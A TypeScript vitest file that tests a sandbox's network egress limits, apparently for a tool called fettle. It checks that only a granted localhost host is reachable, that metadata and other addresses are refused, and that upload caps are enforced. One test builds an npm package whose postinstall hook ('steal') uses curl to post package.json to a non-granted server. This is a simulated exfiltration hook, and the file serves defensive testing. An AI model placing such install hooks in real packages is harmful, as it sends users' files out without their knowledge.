import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { anyError, withFallback } from "../../../src/base/fallback.ts";
import { networked, type Site, site } from "../support/egress.ts";
import { makeWorld, sandboxed, sandboxWorks, type World } from "../support/world.ts";

let world: World;
let granted: Site;
let other: Site;

beforeAll(async () => {
  world = makeWorld();
  granted = await site((request, response) => response.end(`GRANTED ${request.url}\n`));
  other = await site((_request, response) => response.end("OTHER\n"));
});
afterAll(() => {
  granted.close();
  other.close();
  world.remove();
});

const works = sandboxWorks();
const has = (program: string): boolean => {
  return withFallback(
    false,
    anyError,
    () => execFileSync("/bin/sh", ["-c", `command -v ${program}`], { stdio: "pipe" }).length > 0,
  );
};

/** The sandbox hides /tmp, and with it a runtime that was installed there. */
/** Where this Node is seen by a process that has a way out; its checkout is not shown. */
const seenNode = existsSync("/run") ? "/run/fettle-node" : "/tmp/fettle-node";

describe.skipIf(!works)("a process with a granted host", () => {
  const hosts = () => ({ hosts: [`localhost:${granted.port}`], anyPublic: false });

  test("reaches it, by name and by address, and nothing else on this machine", async () => {
    const before = other.seen.length;
    const command = [
      `curl -sS http://localhost:${granted.port}/a http://127.0.0.1:${granted.port}/b`,
      `curl -sS --noproxy '' http://localhost:${granted.port}/by-proxy`,
      `curl -sS -m 5 http://127.0.0.1:${other.port}/`,
      `curl -sS -m 5 --noproxy '' http://localhost:${other.port}/ http://127.1:${other.port}/`,
      `curl -sS -m 5 -p --noproxy '' http://127.0.0.1:${other.port}/`,
      `curl -sS -m 5 --noproxy '' http://[::ffff:127.0.0.1]:${other.port}/`,
    ].join("; ");
    const { output, reached } = await networked(world, command, hosts());
    for (const path of ["/a", "/b", "/by-proxy"]) expect(output).toContain(`GRANTED ${path}`);
    expect(output).not.toContain("OTHER");
    expect(output).toMatch(/fettle does not let this connection out: localhost:\d+ is a loopback address/);
    expect(other.seen).toHaveLength(before);
    const names = reached.map(({ host, refused }) => `${host}${refused === undefined ? "" : " refused"}`);
    expect(names).toContain(`localhost:${granted.port}`);
    expect(names).toContain(`localhost:${other.port} refused`);
    const one = reached.find(({ refused }) => refused === undefined);
    expect(one?.connections).toBeGreaterThanOrEqual(3);
    expect(one?.sent).toBeGreaterThan(200);
    expect(one?.received).toBeGreaterThan(100);
  });

  test.skipIf(!has("/usr/bin/python3"))(
    "has no other way out: no route, no names, no path socket, no way back to fettle",
    async () => {
      const script = [
        "import os, socket",
        "def attempt(name, what):",
        "  try: what(); print(name, 'OPEN')",
        "  except OSError as error: print(name, 'closed', error.errno)",
        "def connect(host, port):",
        "  s = socket.socket(); s.settimeout(3); s.connect((host, port))",
        "attempt('route', lambda: connect('192.0.2.1', 80))",
        "attempt('gateway', lambda: connect('10.0.0.1', 53))",
        "attempt('metadata', lambda: connect('169.254.169.254', 80))",
        "attempt('path', lambda: socket.socket(socket.AF_UNIX))",
        "attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))",
        "attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW))",
        "attempt('names', lambda: socket.getaddrinfo('example.com', 80))",
        "def udp():",
        "  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('192.0.2.53', 53)); s.send(b'x')",
        "attempt('udp', udp)",
        "print('channel', [f for f in os.listdir('/proc/self/fd') if os.path.exists('/proc/self/fd/' + f) and int(f) > 2 and 'socket' in os.readlink('/proc/self/fd/' + f)])",
        "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:",
        "  try: found = [os.readlink('/proc/%s/fd/%s' % (pid, f)) for f in os.listdir('/proc/%s/fd' % pid) if int(f) > 2]",
        "  except OSError: found = []",
        "  if any('socket' in one for one in found): print('HELD by', pid, found)",
        "print('told', [n for n in os.environ if 'CHANNEL' in n])",
      ].join("\n");
      writeFileSync(path.join(world.workspace, "probe.py"), script);
      const { output } = await networked(world, "/usr/bin/python3 probe.py", hosts());
      expect(output).not.toMatch(/OPEN|HELD/);
      expect(output.match(/ closed /g)).toHaveLength(8);
      expect(output).toContain("channel []\ntold []");
    },
  );

  test("ends as it would without a network: exit codes, signals, broken pipes", async () => {
    expect(await networked(world, "exit 7", hosts())).toMatchObject({ code: 7, ended: "exited" });
    expect(await networked(world, "kill -9 $$", hosts())).toMatchObject({ code: 137 });
    const pipe = await networked(world, "yes | head -1; echo ${PIPESTATUS[0]}", hosts());
    expect(pipe.output).toBe("y\n141\n");
  });

  test("serves itself on its own loopback", async () => {
    const serve = `const s = require("http").createServer((q, r) => r.end("MINE")).listen(8080, "127.0.0.1", async () => { console.log(await (await fetch("http://localhost:8080/")).text()); s.close(); })`;
    writeFileSync(path.join(world.workspace, "serve.cjs"), serve);
    const { output } = await networked(world, `${seenNode} serve.cjs`, hosts());
    expect(output).toContain("MINE");
  });

  test.skipIf(!has("/usr/bin/python3"))("python and node find the way by their own settings", async () => {
    const python = `/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen("http://localhost:${granted.port}/py").read())'`;
    const node = `${seenNode} -e 'fetch("http://localhost:${granted.port}/fetch").then(r => r.text()).then(console.log)'`;
    const http = `${seenNode} -e 'require("http").get("http://localhost:${granted.port}/http", r => r.pipe(process.stdout))'`;
    const { output } = await networked(world, [python, node, http].join("; "), hosts());
    for (const path of ["/py", "/fetch", "/http"]) expect(output).toContain(`GRANTED ${path}`);
  });

  test.skipIf(!has("git"))("git clones over http from the granted host, and from no other", async () => {
    const repository = path.join(world.root, "served");
    const git = (folder: string, ...words: string[]) =>
      execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...words], { cwd: folder, stdio: "pipe" });
    mkdirSync(repository);
    git(repository, "init", "-q", "-b", "main");
    writeFileSync(path.join(repository, "file.txt"), "from git\n");
    git(repository, "add", ".");
    git(repository, "commit", "-qm", "one");
    git(repository, "update-server-info");
    const files = await site((request, response) => {
      const file = path.join(
        repository,
        ".git",
        new URL(request.url ?? "/", "http://x").pathname.replace("/r.git", ""),
      );
      if (existsSync(file)) response.end(readFileSync(file));
      else response.writeHead(404).end();
    });
    try {
      const command = `git clone -q http://localhost:${files.port}/r.git one && cat one/file.txt; git clone -q http://localhost:${granted.port}/r.git two`;
      const exit = await networked(world, command, { hosts: [`localhost:${files.port}`], anyPublic: false });
      expect(exit.output).toContain("from git");
      expect(exit.code).not.toBe(0);
      expect(granted.seen.filter((line) => line.includes("r.git"))).toEqual([]);
    } finally {
      files.close();
    }
  });

  test.skipIf(!has("npm"))(
    "npm installs from the granted registry; what the package then fetches elsewhere is refused",
    async () => {
      const folder = path.join(world.root, "tiny");
      mkdirSync(path.join(folder, "package"), { recursive: true });
      const steal = `curl -sS -m 5 --noproxy '' -d @package.json http://localhost:${other.port}/ || true`;
      const manifest = { name: "tiny-thing", version: "1.0.0", main: "i.js", scripts: { postinstall: steal } };
      writeFileSync(path.join(folder, "package/package.json"), JSON.stringify(manifest));
      writeFileSync(path.join(folder, "package/i.js"), "module.exports = 'INSTALLED';");
      execFileSync("tar", ["czf", "t.tgz", "package"], { cwd: folder });
      const archive = readFileSync(path.join(folder, "t.tgz"));
      const integrity = `sha512-${createHash("sha512").update(archive).digest("base64")}`;
      const registry = await site((request, response) => {
        const { port } = registry;
        const tarball = `http://localhost:${port}/tiny-thing/-/tiny-thing-1.0.0.tgz`;
        if (request.url?.endsWith(".tgz")) response.end(archive);
        else if (request.url === "/tiny-thing")
          response.end(
            JSON.stringify({
              ...{ name: "tiny-thing", "dist-tags": { latest: "1.0.0" } },
              versions: { "1.0.0": { ...manifest, hasInstallScript: true, dist: { tarball, integrity } } },
            }),
          );
        else response.writeHead(404).end("{}");
      });
      const before = other.seen.length;
      try {
        writeFileSync(path.join(world.workspace, "package.json"), '{"name":"x","version":"1.0.0"}');
        const command = `npm install --no-audit --no-fund --foreground-scripts --registry http://localhost:${registry.port}/ tiny-thing; node -e 'console.log(require("tiny-thing"))'`;
        const exit = await networked(world, command, { hosts: [`localhost:${registry.port}`], anyPublic: false });
        expect(exit.output).toContain("INSTALLED");
        expect(other.seen).toHaveLength(before);
        expect(exit.reached.map(({ host }) => host)).toContain(`localhost:${registry.port}`);
      } finally {
        registry.close();
      }
    },
  );

  test("an unknown host means any public one, and still nothing inside", async () => {
    const command = `curl -sS -m 5 --noproxy '' http://localhost:${granted.port}/ http://printer.local/ http://169.254.169.254/latest/ http://inside.example.com/ http://127.0.0.1.nip.io/`;
    const resolve = async () => [{ address: "127.0.0.1", family: 4 }];
    const before = granted.seen.length;
    const { output, reached } = await networked(world, command, { hosts: [], anyPublic: true, resolve });
    expect(granted.seen).toHaveLength(before);
    expect(output).not.toContain("GRANTED");
    expect(reached.every(({ refused }) => refused !== undefined)).toBe(true);
    expect(output).toContain("inside.example.com resolves to 127.0.0.1");
  });

  test("sends no more than it may", async () => {
    const options = { ...hosts(), uploadBytes: 100_000 };
    const command = `head -c 5000000 /dev/zero | curl -sS -m 10 -T - http://localhost:${granted.port}/up`;
    const { code, reached } = await networked(world, command, options);
    expect(code).not.toBe(0);
    expect(reached[0]?.refused).toContain("more was sent");
    expect(reached[0]?.sent).toBeLessThan(1_000_000);
  });
});

test.skipIf(!works)("a process without a network has no doors", async () => {
  const exit = await sandboxed(world, `curl -sS -m 5 http://127.0.0.1:17871/ http://localhost:${granted.port}/`);
  expect(exit.output).not.toContain("GRANTED");
});
